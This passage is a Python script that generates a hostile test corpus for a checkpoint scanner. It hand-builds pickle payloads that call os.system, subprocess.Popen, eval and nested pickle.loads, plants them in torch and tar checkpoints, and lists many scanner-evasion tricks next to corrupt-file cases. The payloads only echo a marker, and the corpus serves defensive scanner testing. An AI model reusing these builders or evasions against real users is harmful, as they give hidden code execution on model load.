#!/usr/bin/env python3
"""Generates the hostile corpus: checkpoints that carry code-execution payloads, picklescan-style bypasses,
files that are broken on purpose, and inputs beyond the resource limits, together with manifest.json, the
expected outcome of `scan` and of opening each file.

Run with a Python that has torch (the project uses /opt/torch213/bin/python, torch 2.13):

    /opt/torch213/bin/python make_hostile.py [--verify]

Only the standard library (pickle, zipfile, tarfile, struct) builds the hostile parts; torch makes the realistic
containers they are planted in. Every payload runs `echo CKPT_PAYLOAD_RAN` (harmless). With --verify, each payload
file is loaded in a child process by the loader it targets (torch.load(weights_only=False) or pickle.load), and
the manifest records whether the payload really ran: proof that the corpus is live, not just suspicious-looking.

Manifest entry fields:
  file, category (payload | bypass | corrupt | limit), description,
  scan: {exit: 0|1|2, verdict?, dangerous?: [names scan must list as dangerous]}
  open: {outcome: "ok" | "error" | "warning" | "error-or-warning",
         unsafe_globals?: [names the main pickle itself names, to be listed by inspect],
         tensors?: [keys inspect must still list]}
  verified?: what --verify observed
"""
import collections
import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

import torch

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = "echo CKPT_PAYLOAD_RAN"
MARKER = "CKPT_PAYLOAD_RAN"
ENTRIES = []


# ---------------------------------------------------------------- pickle assembler (protocol opcodes by hand)

def proto(n):
    return b"\x80" + bytes([n])


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def bu8(s):  # BINUNICODE8
    b = s.encode()
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def unicode0(s):  # UNICODE, protocol 0
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def string0(s, escaped=False):  # STRING, protocol 0: a quoted literal
    body = "".join("\\x%02x" % ord(c) for c in s) if escaped else s
    return b"S'" + body.encode() + b"'\n"


def binstring(s):
    b = s.encode()
    return b"T" + struct.pack("<i", len(b)) + b


def sbinstring(s):
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def sbinbytes(b):
    return b"C" + bytes([len(b)]) + b


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


MARK, STOP, TUPLE, REDUCE, POP, DUP = b"(", b".", b"t", b"R", b"0", b"2"
TUPLE1, TUPLE2, EMPTY_TUPLE, NONE = b"\x85", b"\x86", b")", b"N"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX, EMPTY_DICT = b"\x93", b"\x94", b"\x81", b"\x92", b"}"


def call_system_p0():
    """os.system(CMD) as protocol 0 text: GLOBAL, MARK, STRING, TUPLE, REDUCE."""
    return glob("os", "system") + MARK + string0(CMD) + TUPLE + REDUCE


def call_system_p2():
    return glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE


def payload_pickle(body, protocol=2):
    """A whole pickle whose value is the payload's result."""
    return (proto(protocol) if protocol >= 2 else b"") + body + STOP


class RunsEcho:
    """Pickles as os.system(CMD), the textbook payload (posix.system on Linux)."""

    def __reduce__(self):
        return (os.system, (CMD,))


# ---------------------------------------------------------------- realistic containers made by real torch

def state_dict():
    torch.manual_seed(0)
    return collections.OrderedDict([("fc.weight", torch.randn(3, 4)), ("fc.bias", torch.randn(3))])


STATE_KEYS = ["fc.weight", "fc.bias"]


def torch_zip(obj, root="archive"):
    b = io.BytesIO()
    torch.save(obj, b)
    return rename_root(b.getvalue(), root)


def rename_root(data, root):
    if root == "archive":
        return data
    return rewrite_zip(data, lambda name, payload: [(name.replace("archive/", root + "/", 1), payload)])


def rewrite_zip(data, change, compress=None):
    """Rebuilds a zip with Python's zipfile (torch reads such archives); change(name, bytes) -> [(name, bytes)]."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            for name, payload in change(info.filename, src.read(info)):
                method = compress(name) if compress else zipfile.ZIP_STORED
                z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), payload, compress_type=method)
    return out.getvalue()


def replace_record(data, record, new_bytes):
    return rewrite_zip(data, lambda n, p: [(n, new_bytes if n.endswith(record) else p)])


def prefix_payload(clean_pickle, payload_body):
    """Runs the payload first, POPs its result, then the original pickle: torch.load runs the payload and still
    returns the original object (the known attack of injecting code into a real model's data.pkl)."""
    assert clean_pickle[:2] == b"\x80\x02"
    return b"\x80\x02" + payload_body + POP + clean_pickle[2:]


def data_pkl(zip_bytes):
    z = zipfile.ZipFile(io.BytesIO(zip_bytes))
    return z.read([n for n in z.namelist() if n.endswith("/data.pkl")][0])


def legacy_bytes(obj):
    b = io.BytesIO()
    torch.save(obj, b, _use_new_zipfile_serialization=False)
    return b.getvalue()


# ---------------------------------------------------------------- the oldest torch format, a tar (§7.2), by hand

def tar_checkpoint(pickle_member=None, storages_first=None, weights=(1.0, 2.0, 3.0, 4.0), v7=False):
    """storages: pickle(1), pickle((1, 'cpu', torch.FloatStorage)), int64 count + float32 data, pickle([]);
    tensors: pickle(1), pickle((0, 1, torch.FloatTensor)), int32 ndim, pad, sizes, strides, offset;
    pickle: {'w': persistent id 0}."""
    count = storages_first if storages_first is not None else pickle.dumps(1, protocol=2)
    header = (proto(2) + MARK + b"K\x01" + bu("cpu") + glob("torch", "FloatStorage") + TUPLE + STOP)
    data = struct.pack("<q", len(weights)) + struct.pack("<%df" % len(weights), *weights)
    storages = count + header + data + pickle.dumps([], protocol=2)
    tensor_header = proto(2) + MARK + b"K\x00K\x01" + glob("torch", "FloatTensor") + TUPLE + STOP
    geometry = struct.pack("<ii", 2, 0) + struct.pack("<qq", 2, 2) + struct.pack("<qq", 2, 1) + struct.pack("<q", 0)
    tensors = pickle.dumps(1, protocol=2) + tensor_header + geometry
    main = pickle_member if pickle_member is not None else (
        proto(2) + EMPTY_DICT + bu("w") + b"P0\n" + b"s" + STOP)
    out = io.BytesIO()
    fmt = tarfile.GNU_FORMAT if v7 else tarfile.PAX_FORMAT
    with tarfile.open(fileobj=out, mode="w", format=fmt) as t:
        for name, payload in (("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                              ("storages", storages), ("tensors", tensors), ("pickle", main)):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            info.mtime = 0
            t.addfile(info, io.BytesIO(payload))
    data = out.getvalue()
    if v7:
        data = to_v7(data)
    return data


def to_v7(data):
    """Blanks the ustar magic and version of every header and fixes the checksums: an old V7 tar, which
    Python's tarfile (and so torch.load) still opens, but which has no magic to sniff."""
    buf = bytearray(data)
    pos = 0
    while pos + 512 <= len(buf) and any(buf[pos:pos + 512]):
        buf[pos + 257:pos + 265] = b"\0" * 8
        buf[pos + 148:pos + 156] = b" " * 8
        chk = sum(buf[pos:pos + 512])
        buf[pos + 148:pos + 156] = ("%06o\0 " % chk).encode()
        size = int(bytes(buf[pos + 124:pos + 136]).strip(b"\0 ") or b"0", 8)
        pos += 512 + (size + 511) // 512 * 512
    return bytes(buf)


# ---------------------------------------------------------------- zip surgery at the byte level

def find_all(data, sig):
    i, out = 0, []
    while True:
        i = data.find(sig, i)
        if i < 0:
            return out
        out.append(i)
        i += 1


def eocd(data):
    return data.rfind(b"PK\x05\x06")


def set_u32(data, at, value):
    return data[:at] + struct.pack("<I", value) + data[at + 4:]


# ---------------------------------------------------------------- safetensors by hand

def safetensors(header, data=b"", length=None, raw_header=None):
    h = raw_header if raw_header is not None else json.dumps(header, separators=(",", ":")).encode()
    n = len(h) if length is None else length
    return struct.pack("<Q", n) + h + data


F32x2 = struct.pack("<2f", 1.0, 2.0)


# ---------------------------------------------------------------- registry

def add(name, data, category, description, scan, open_, verify=None):
    ENTRIES.append(dict(file=name, category=category, description=description, scan=scan, open=open_,
                        _data=data, _verify=verify))


def dangerous(*names):
    return {"exit": 1, "verdict": "dangerous", "dangerous": list(names)}


def scan_error():
    return {"exit": 2}


def opens(outcome="ok", unsafe=(), tensors=()):
    o = {"outcome": outcome}
    if unsafe:
        o["unsafe_globals"] = list(unsafe)
    if tensors:
        o["tensors"] = list(tensors)
    return o


def build():
    sd = state_dict()
    clean_zip = torch_zip(sd)
    clean_pkl = data_pkl(clean_zip)
    clean_legacy = legacy_bytes(sd)

    # ------------------------------------------------------------ payloads in every container
    add("zip_injected_state_dict.pt", replace_record(clean_zip, "data.pkl", prefix_payload(clean_pkl, call_system_p2())),
        "payload", "a real state_dict whose data.pkl first runs os.system, then returns the state_dict",
        dangerous("os.system"), opens(unsafe=["os.system"], tensors=STATE_KEYS), "torch")
    add("zip_reduce_in_dict.pt", torch_zip({"model": sd, "evil": RunsEcho()}),
        "payload", "torch.save of a dict holding a state_dict and an object whose __reduce__ is os.system",
        dangerous("posix.system"), opens(unsafe=["posix.system"], tensors=["model.fc.weight", "model.fc.bias"]),
        "torch")
    add("zip_renamed.safetensors", torch_zip({"evil": RunsEcho()}, root="model"),
        "payload", "a torch zip with a payload disguised by a .safetensors name",
        dangerous("posix.system"), opens(unsafe=["posix.system"]), "torch113")
    legacy_evil = legacy_bytes(collections.OrderedDict([("fc.weight", sd["fc.weight"]), ("evil", RunsEcho())]))
    add("legacy_pickle4_payload.pt", legacy_evil, "payload",
        "legacy stream (torch < 1.6) whose object pickle (pickle 4) holds a __reduce__ payload",
        dangerous("posix.system"), opens(unsafe=["posix.system"], tensors=["fc.weight"]), "torch")
    magic_end = clean_legacy.index(b".") + 1
    add("legacy_pickle1_payload.pt",
        clean_legacy[:magic_end - 1] + call_system_p0() + POP + STOP + clean_legacy[magic_end:],
        "payload", "legacy stream whose magic-number pickle (pickle 1) runs os.system and then POPs, so the magic "
        "number check still passes", dangerous("os.system"), opens(tensors=STATE_KEYS), "torch")
    add("tar_pickle_payload.pt", tar_checkpoint(pickle_member=prefix_payload(
        proto(2) + EMPTY_DICT + bu("w") + b"P0\n" + b"s" + STOP, call_system_p2())),
        "payload", "the oldest tar format, payload in the 'pickle' member", dangerous("os.system"),
        opens(outcome="ok", unsafe=["os.system"], tensors=["w"]), "torch113")
    add("tar_storages_payload.pt", tar_checkpoint(storages_first=payload_pickle(
        call_system_p2() + POP + b"K\x01")),
        "payload", "the tar format, payload in the storage-count pickle of the 'storages' member (unrestricted "
        "pickle.load in torch's legacy_load)", dangerous("os.system"), opens(outcome="ok", tensors=["w"]),
        "torch113")
    add("tar_v7_payload.pt", tar_checkpoint(pickle_member=payload_pickle(call_system_p2()), v7=True),
        "payload", "a V7 tar (no ustar magic to sniff) that torch's tarfile still opens; payload in 'pickle'",
        dangerous("os.system"), opens(outcome="ok", unsafe=["os.system"]), "torch113")
    add("plain_pickle.pkl", pickle.dumps(RunsEcho(), protocol=2), "payload",
        "a plain pickle file: torch.load unpickles it before it checks any magic number",
        dangerous("posix.system"), opens(outcome="error"), "torch")
    add("zip_constants_pkl.pt", rewrite_zip(clean_zip, lambda n, p: [(n, p)] + (
        [(n.replace("data.pkl", "constants.pkl"), payload_pickle(call_system_p2()))] if n.endswith("data.pkl") else [])),
        "payload", "a TorchScript-style constants.pkl record with a payload next to a clean data.pkl (torch.load "
        "dispatches such archives to torch.jit.load)", dangerous("os.system"), opens(tensors=STATE_KEYS))
    shard = torch_zip({"evil": RunsEcho(), **sd})
    add("sharded_payload/pytorch_model-00001-of-00001.bin", shard, "payload", "a .bin shard with a payload",
        dangerous("posix.system"), opens(unsafe=["posix.system"], tensors=STATE_KEYS), "torch")
    add("sharded_payload/pytorch_model.bin.index.json", json.dumps({"metadata": {"total_size": 60}, "weight_map": {
        k: "pytorch_model-00001-of-00001.bin" for k in STATE_KEYS}}).encode(), "payload",
        "a shard index whose shard holds a payload: scanning the index scans every shard",
        dangerous("posix.system"), opens(unsafe=["posix.system"], tensors=STATE_KEYS))

    # ------------------------------------------------------------ picklescan-style bypasses
    memo_confusion = (proto(4) + sbu("collections") + binput(0) + POP + sbu("OrderedDict") + binput(1) + POP
                      + sbu("os") + binput(0) + POP + sbu("system") + binput(1) + POP
                      + binget(0) + binget(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("bypass_memo_overwrite.pkl", memo_confusion, "bypass",
        "STACK_GLOBAL operands fetched with BINGET from memo slots that were overwritten: a scanner that keeps the "
        "first value of a slot sees collections.OrderedDict", dangerous("os.system"), opens(outcome="error"),
        "pickle")
    memoize = (proto(4) + sbu("builtins") + MEMOIZE + POP + sbu("x") + binput(5) + POP + sbu("os") + MEMOIZE
               + POP + sbu("system") + MEMOIZE + POP
               + binget(2) + binget(3) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("bypass_memoize_index.pkl", memoize, "bypass",
        "MEMOIZE numbers entries by the memo's size, not by how many MEMOIZEs came before: after a BINPUT 5 the "
        "third MEMOIZE is index 2 and the fourth index 3, which a counter of MEMOIZE opcodes gets wrong",
        dangerous("os.system"), opens(outcome="error"), "pickle")
    for tag, module, name in (("unicode", unicode0("os"), unicode0("system")),
                              ("string", string0("os"), string0("system", escaped=True)),
                              ("binstring", binstring("os"), binstring("system")),
                              ("short_binstring", sbinstring("os"), sbinstring("system")),
                              ("binunicode8", bu8("os"), bu8("system")),
                              ("binunicode", bu("os"), bu("system"))):
        body = module + name + STACK_GLOBAL + bu(CMD) + TUPLE1 + REDUCE
        add("bypass_stack_global_%s.pkl" % tag, payload_pickle(body, 4), "bypass",
            "STACK_GLOBAL whose module and name strings come from %s opcodes" % tag.upper(),
            dangerous("os.system"), opens(outcome="error"), "pickle")
    add("bypass_stack_global_binbytes.pkl", payload_pickle(binbytes(b"os") + sbinbytes(b"system") + STACK_GLOBAL
                                                           + bu(CMD) + TUPLE1 + REDUCE, 4),
        "bypass", "STACK_GLOBAL with bytes operands (CPython refuses them, a scanner must still name the global)",
        dangerous("os.system"), opens(outcome="error"))
    add("bypass_stack_global_dup.pkl", payload_pickle(sbu("os") + DUP + POP + sbu("system") + STACK_GLOBAL
                                                      + sbu(CMD) + TUPLE1 + REDUCE, 4),
        "bypass", "the module string goes through DUP/POP before STACK_GLOBAL", dangerous("os.system"),
        opens(outcome="error"), "pickle")
    computed = (proto(4) + glob("builtins", "str") + sbu("os") + TUPLE1 + REDUCE + sbu("system") + STACK_GLOBAL
                + sbu(CMD) + TUPLE1 + REDUCE + STOP)
    add("bypass_stack_global_computed.pkl", computed, "bypass",
        "the STACK_GLOBAL module is computed by REDUCE (str('os')): no scanner can read it, so it must be reported "
        "as unresolved instead of dropped", dangerous("<computed>.system"), opens(outcome="error"), "pickle")
    dotted = payload_pickle(sbu("torch") + sbu("serialization.os.system") + STACK_GLOBAL + sbu(CMD) + TUPLE1
                            + REDUCE, 4)
    add("bypass_dotted_name.pkl", dotted, "bypass",
        "protocol 4 resolves a dotted name attribute by attribute: torch + serialization.os.system is os.system",
        dangerous("torch.serialization.os.system"), opens(outcome="error"), "pickle")
    add("bypass_appended_after_stop.pt", replace_record(clean_zip, "data.pkl", clean_pkl + payload_pickle(
        call_system_p2())), "bypass",
        "a clean data.pkl with a second pickle appended after its STOP (torch ignores it, a second pickle.load "
        "would run it)", dangerous("os.system"), opens(tensors=STATE_KEYS))
    add("bypass_appended_plain.pkl", pickle.dumps({"a": 1}, protocol=2) + payload_pickle(call_system_p0(), 0),
        "bypass", "a harmless pickle followed by a protocol 0 payload pickle", dangerous("os.system"),
        opens(outcome="error"))
    inner = pickle.dumps(RunsEcho(), protocol=2)
    inner_p0 = payload_pickle(call_system_p0(), 0).decode("latin1")
    add("bypass_pickle_loads_bytes.pkl", payload_pickle(glob("pickle", "loads") + binbytes(inner) + TUPLE1 + REDUCE, 3),
        "bypass", "pickle.loads of a BINBYTES payload that is itself a pickle", dangerous("pickle.loads", "posix.system"),
        opens(outcome="error"), "pickle")
    add("bypass_pickle_loads_latin1.pkl", payload_pickle(
        glob("_pickle", "loads") + glob("_codecs", "encode") + bu(inner.decode("latin1")) + bu("latin1") + TUPLE2
        + REDUCE + TUPLE1 + REDUCE, 2), "bypass",
        "protocol 2 spells bytes as _codecs.encode(str, 'latin1'): the str argument is the inner pickle",
        dangerous("_pickle.loads", "posix.system"), opens(outcome="error"), "pickle")
    evil_legacy = legacy_bytes({"evil": RunsEcho()})
    add("bypass_load_from_bytes.pt", replace_record(
        clean_zip, "data.pkl", prefix_payload(clean_pkl, glob("torch.storage", "_load_from_bytes")
                                              + binbytes(evil_legacy) + TUPLE1 + REDUCE)),
        "bypass", "torch.storage._load_from_bytes (what pickle.dumps of a storage emits) of a legacy torch stream "
        "that holds a payload: torch.load inside torch.load", dangerous("torch.storage._load_from_bytes", "posix.system"),
        opens(unsafe=["torch.storage._load_from_bytes"], tensors=STATE_KEYS), "torch")
    evil_zip = torch_zip({"evil": RunsEcho()})
    add("bypass_torch_load_bytesio.pkl", payload_pickle(
        glob("torch.serialization", "load") + glob("io", "BytesIO") + binbytes(evil_zip) + TUPLE1 + REDUCE
        + TUPLE1 + REDUCE, 3), "bypass",
        "torch.serialization.load(io.BytesIO(<a torch zip with a payload>))",
        dangerous("torch.serialization.load", "io.BytesIO", "posix.system"), opens(outcome="error"), "pickle113")
    add("bypass_inst.pkl", MARK + string0(CMD) + b"ios\nsystem\n" + STOP, "bypass",
        "protocol 0 INST names the callable in its own text argument", dangerous("os.system"), opens(outcome="error"),
        "pickle")
    add("bypass_obj.pkl", MARK + glob("os", "system") + string0(CMD) + b"o" + STOP, "bypass",
        "OBJ calls the class found after its MARK", dangerous("os.system"), opens(outcome="error"), "pickle")
    add("bypass_protocol0_text.pkl", pickle.dumps(RunsEcho(), protocol=0), "bypass",
        "the textbook payload in protocol 0 (text opcodes only)", dangerous("posix.system"), opens(outcome="error"),
        "pickle")
    add("bypass_py2_builtin_eval.pkl", glob("__builtin__", "eval") + MARK + string0("print('%s')" % MARKER) + TUPLE
        + REDUCE + STOP, "bypass", "Python 2's __builtin__.eval, mapped to builtins.eval by pickle",
        dangerous("__builtin__.eval"), opens(outcome="error"), "pickle")
    add("bypass_py2_commands.pkl", glob("commands", "getoutput") + MARK + string0(CMD) + TUPLE + REDUCE + STOP,
        "bypass", "Python 2's commands.getoutput, which pickle maps to subprocess.getoutput",
        dangerous("commands.getoutput"), opens(outcome="error"))
    add("bypass_py2_cpickle.pkl", glob("cPickle", "loads") + MARK + glob("_codecs", "encode") + MARK + string0(inner_p0, escaped=True)
        + string0("latin1") + TUPLE + REDUCE + TUPLE + REDUCE + STOP,
        "bypass", "Python 2's cPickle.loads, which pickle maps to pickle.loads, of a protocol 0 payload",
        dangerous("cPickle.loads", "os.system"), opens(outcome="error"), "pickle")
    add("bypass_extra_pkl_record.pt", rewrite_zip(clean_zip, lambda n, p: [(n, p)] + (
        [(n.replace("data.pkl", "extra.pkl"), payload_pickle(call_system_p2()))] if n.endswith("data.pkl") else [])),
        "bypass", "an extra .pkl record next to a clean data.pkl", dangerous("os.system"), opens(tensors=STATE_KEYS))
    add("bypass_copyreg_reconstructor.pkl",
        payload_pickle(glob("copyreg", "_reconstructor") + MARK + glob("subprocess", "Popen") + glob("subprocess", "Popen")
                       + MARK + bu("sh") + bu("-c") + bu(CMD) + b"l" + TUPLE + REDUCE, 2),
        "bypass", "copyreg._reconstructor(subprocess.Popen, subprocess.Popen, [...]) calls Popen.__init__",
        dangerous("subprocess.Popen"), opens(outcome="error"), "pickle")
    getattr_chain = (glob("builtins", "getattr") + MARK + glob("builtins", "__import__") + MARK + bu("os") + TUPLE
                     + REDUCE + bu("system") + TUPLE + REDUCE + MARK + bu(CMD) + TUPLE + REDUCE)
    add("bypass_getattr_chain.pkl", payload_pickle(getattr_chain, 2), "bypass",
        "getattr(__import__('os'), 'system')(cmd)", dangerous("builtins.getattr", "builtins.__import__"),
        opens(outcome="error"), "pickle")
    add("bypass_functools_partial.pkl", payload_pickle(
        glob("functools", "partial") + glob("os", "system") + bu(CMD) + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE, 2),
        "bypass", "functools.partial(os.system, cmd)()", dangerous("functools.partial", "os.system"),
        opens(outcome="error"), "pickle")
    add("bypass_operator_attrgetter.pkl", payload_pickle(
        glob("operator", "attrgetter") + bu("system") + TUPLE1 + REDUCE
        + glob("importlib", "import_module") + bu("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE
        + bu(CMD) + TUPLE1 + REDUCE, 2), "bypass",
        "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
        dangerous("operator.attrgetter", "importlib.import_module"), opens(outcome="error"), "pickle")
    add("bypass_torch_serialization_load.pt", replace_record(clean_zip, "data.pkl", prefix_payload(
        clean_pkl, glob("torch.serialization", "load") + bu("/etc/hostname") + TUPLE1 + REDUCE)), "bypass",
        "torch.serialization.load of another path, planted in a real state_dict",
        dangerous("torch.serialization.load"), opens(unsafe=["torch.serialization.load"], tensors=STATE_KEYS))
    add("bypass_newobj_ex.pkl", payload_pickle(
        glob("subprocess", "Popen") + MARK + bu("sh") + bu("-c") + bu(CMD) + b"l" + TUPLE1 + EMPTY_DICT + NEWOBJ_EX
        + POP + NONE, 4), "bypass", "NEWOBJ_EX creates a subprocess.Popen object (without __init__ no process "
        "starts, but the global is named)", dangerous("subprocess.Popen"), opens(outcome="error"))
    add("bypass_extension_code.pkl", payload_pickle(b"\x82\x01", 2), "bypass",
        "EXT1 names a global through copyreg's extension registry: unresolvable statically",
        dangerous("copyreg.<extension code 1>"), opens(outcome="error"))
    deflated = rewrite_zip(replace_record(clean_zip, "data.pkl", prefix_payload(clean_pkl, call_system_p2())),
                           lambda n, p: [(n, p)], compress=lambda n: zipfile.ZIP_DEFLATED if n.endswith(".pkl")
                           else zipfile.ZIP_STORED)
    add("bypass_deflated_data_pkl.pt", deflated, "bypass",
        "the payload-bearing data.pkl is DEFLATE-compressed (torch inflates it; a scanner reading raw bytes sees "
        "nothing)", dangerous("os.system"), opens(unsafe=["os.system"], tensors=STATE_KEYS), "torch")
    bad_crc = replace_record(clean_zip, "data.pkl", prefix_payload(clean_pkl, call_system_p2()))
    cd = bad_crc.find(b"PK\x01\x02")
    bad_crc = set_u32(bad_crc, cd + 16, 0xDEADBEEF)
    add("bypass_bad_crc.pt", bad_crc, "bypass",
        "a payload data.pkl whose CRC-32 is wrong: Python's zipfile refuses to read it, torch does not check",
        dangerous("os.system"), opens(unsafe=["os.system"], tensors=STATE_KEYS), "torch")
    dup = rewrite_zip(clean_zip, lambda n, p: [(n, p), (n, prefix_payload(p, call_system_p2()))]
                      if n.endswith("data.pkl") else [(n, p)])
    add("bypass_duplicate_data_pkl.pt", dup, "bypass",
        "two records named data.pkl, the second with a payload (which one a loader takes is its own business)",
        dangerous("os.system"), opens(outcome="error-or-warning"))
    nested = payload_pickle(glob("pickle", "loads") + binbytes(payload_pickle(
        glob("pickle", "loads") + binbytes(inner) + TUPLE1 + REDUCE, 3)) + TUPLE1 + REDUCE, 3)
    add("bypass_nested_loads.pkl", nested, "bypass", "pickle.loads of pickle.loads of a payload",
        dangerous("pickle.loads", "posix.system"), opens(outcome="error"), "pickle")
    add("bypass_protocol5_frame.pkl", pickle.dumps(RunsEcho(), protocol=5), "bypass",
        "protocol 5 with FRAME, SHORT_BINUNICODE, MEMOIZE and STACK_GLOBAL", dangerous("posix.system"),
        opens(outcome="error"), "pickle")
    add("bypass_numpy_load.pt", torch_zip({"x": numpy_load_call()}), "bypass",
        "numpy.load of a path (file access; with allow_pickle it unpickles again)", dangerous("numpy.load"),
        opens(unsafe=["numpy.load"]))
    add("bypass_payload_then_garbage.pkl", payload_pickle(call_system_p2(), 2)[:-1] + b"\xff\xff",
        "bypass", "the payload runs before the unpickler reaches an invalid opcode: a scanner that gives up on the "
        "error must still report what came before", dangerous("os.system"), opens(outcome="error"), "pickle")

    # ------------------------------------------------------------ corrupt containers
    for cut in (10, 40, 64, 100, 200, len(clean_zip) // 2, len(clean_zip) - 200, len(clean_zip) - 30,
                len(clean_zip) - 1):
        add("corrupt_zip_truncated_%d.pt" % cut, clean_zip[:cut], "corrupt",
            "a torch zip cut at byte %d of %d" % (cut, len(clean_zip)), scan_error(), opens("error"))
    for cut in (3, 15, 21, 40, 300, len(clean_legacy) - 10):
        add("corrupt_legacy_truncated_%d.pt" % cut, clean_legacy[:cut], "corrupt",
            "a legacy stream cut at byte %d of %d" % (cut, len(clean_legacy)),
            scan_error() if cut < legacy_pickles_end(clean_legacy) else {"exit": 0},
            opens("error-or-warning"))
    bad_cd = clean_zip.replace(b"PK\x01\x02", b"PK\x01\x09", 1)
    add("corrupt_bad_central_directory.pt", bad_cd, "corrupt", "the first central directory signature is wrong",
        scan_error(), opens("error"))
    e = eocd(clean_zip)
    z64 = clean_zip.rfind(b"PK\x06\x06")
    add("corrupt_cd_offset_out_of_file.pt", set_u32(set_u32(clean_zip, e + 16, 0x7FFFFFF0), z64 + 48, 0x7FFFFFF0),
        "corrupt", "the end records (classic and ZIP64) point the central directory past the end of the file",
        scan_error(), opens("error"))
    add("corrupt_cd_offset32_only.pt", set_u32(clean_zip, e + 16, 0x7FFFFFF0), "corrupt",
        "only the classic end record's directory offset is wrong; like torch's miniz, readers take the ZIP64 "
        "record's", {"exit": 0}, opens("ok", tensors=STATE_KEYS))
    no_eocd = clean_zip[:e]
    add("corrupt_no_end_record.pt", no_eocd, "corrupt", "the end of central directory record is missing",
        scan_error(), opens("error"))
    cd = clean_zip.find(b"PK\x01\x02")
    add("corrupt_local_header_offset.pt", set_u32(clean_zip, cd + 42, len(clean_zip) + 100), "corrupt",
        "data.pkl's central directory entry points its local header past the end of the file",
        scan_error(), opens("error"))
    add("corrupt_pkl_size_too_large.pt", set_u32(set_u32(clean_zip, cd + 20, 1 << 30), cd + 24, 1 << 30),
        "corrupt", "data.pkl's sizes in the central directory exceed the file", scan_error(), opens("error"))
    add("corrupt_missing_data_record.pt", rewrite_zip(clean_zip, lambda n, p: [] if "/data/" in n else [(n, p)]),
        "corrupt", "the storage record data/0 is missing", {"exit": 0}, opens("error-or-warning"))
    add("corrupt_missing_data_pkl.pt", rewrite_zip(clean_zip, lambda n, p: [] if n.endswith("data.pkl") else [(n, p)]),
        "corrupt", "the archive has no data.pkl", {"exit": 0}, opens("error"))
    short_storage = rewrite_zip(clean_zip, lambda n, p: [(n, p[:8] if n.endswith("/data/0") else p)])
    add("corrupt_storage_too_short.pt", short_storage, "corrupt",
        "data/0 holds 8 bytes where the tensors need 60", {"exit": 0}, opens("error-or-warning"))
    add("corrupt_data_pkl_garbage.pt", replace_record(clean_zip, "data.pkl", b"\x80\x02\xff\xfe\xfd"), "corrupt",
        "data.pkl holds an unknown opcode", scan_error(), opens("error"))
    add("corrupt_data_pkl_underflow.pt", replace_record(clean_zip, "data.pkl", b"\x80\x02R."), "corrupt",
        "data.pkl's REDUCE pops from an empty stack", scan_error(), opens("error"))
    add("corrupt_data_pkl_no_stop.pt", replace_record(clean_zip, "data.pkl", clean_pkl[:-1]), "corrupt",
        "data.pkl lacks its STOP", scan_error(), opens("error"))
    add("corrupt_binunicode_length.pt", replace_record(clean_zip, "data.pkl", b"\x80\x02X\xff\xff\xff\x7f" + b"a" * 20
                                                       + b"."), "corrupt",
        "a BINUNICODE declares 2 GiB in a 30-byte pickle", scan_error(), opens("error"))
    add("corrupt_missing_memo.pt", replace_record(clean_zip, "data.pkl", b"\x80\x02h\x07."), "corrupt",
        "BINGET of a memo entry that was never set", scan_error(), opens("error"))
    add("corrupt_prefixed_zip.pt", b"JUNK" + clean_zip, "corrupt",
        "a torch zip with 4 bytes before it: torch does not see a zip (it checks the first bytes)",
        scan_error(), opens("error"))
    huge_shape = replace_record(clean_zip, "data.pkl", clean_pkl.replace(
        b"K\x03K\x04\x86", b"\x8a\x05\x00\x00\x00\x00\x01\x8a\x05\x00\x00\x00\x00\x01\x86", 1))
    add("corrupt_shape_overflow.pt", huge_shape, "corrupt",
        "a tensor of shape (2^32, 2^32): its element count overflows what its storage holds",
        {"exit": 0}, opens("error-or-warning", tensors=["fc.bias"]))
    neg = replace_record(clean_zip, "data.pkl", clean_pkl.replace(b"K\x04K\x01\x86", b"J\xfc\xff\xff\xffK\x01\x86", 1))
    add("corrupt_negative_stride.pt", neg, "corrupt", "a tensor with stride (-4, 1)", {"exit": 0},
        opens("error-or-warning"))
    add("corrupt_tar_truncated.pt", tar_checkpoint()[:1500], "corrupt", "a tar checkpoint cut inside its members",
        scan_error(), opens("error"))

    # ------------------------------------------------------------ corrupt safetensors (§9)
    good = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    add("st_header_beyond_file.safetensors", safetensors(good, F32x2, length=4096), "corrupt",
        "the header length reaches past the end of the file", scan_error(), opens("error"))
    add("st_header_too_large.safetensors", safetensors(good, F32x2, length=200_000_000), "limit",
        "a header length of 200 MB, beyond the 100 MB limit", scan_error(), opens("error"))
    add("st_header_huge_length.safetensors", safetensors(good, F32x2, length=(1 << 64) - 1), "limit",
        "a header length of 2^64-1", scan_error(), opens("error"))
    add("st_non_utf8.safetensors", safetensors(None, F32x2, raw_header=b'{"\xff\xfe": {"dtype": "F32", "shape": [2], '
                                                                       b'"data_offsets": [0, 8]}}'),
        "corrupt", "the header is not UTF-8", scan_error(), opens("error"))
    add("st_utf16_header.safetensors", safetensors(None, F32x2, raw_header=json.dumps(good).encode("utf-16-le")),
        "corrupt", "the header is JSON in UTF-16, which Jackson would decode; safetensors reads UTF-8 only",
        scan_error(), opens("error"))
    add("st_duplicate_keys.safetensors", safetensors(None, F32x2 + F32x2, raw_header=(
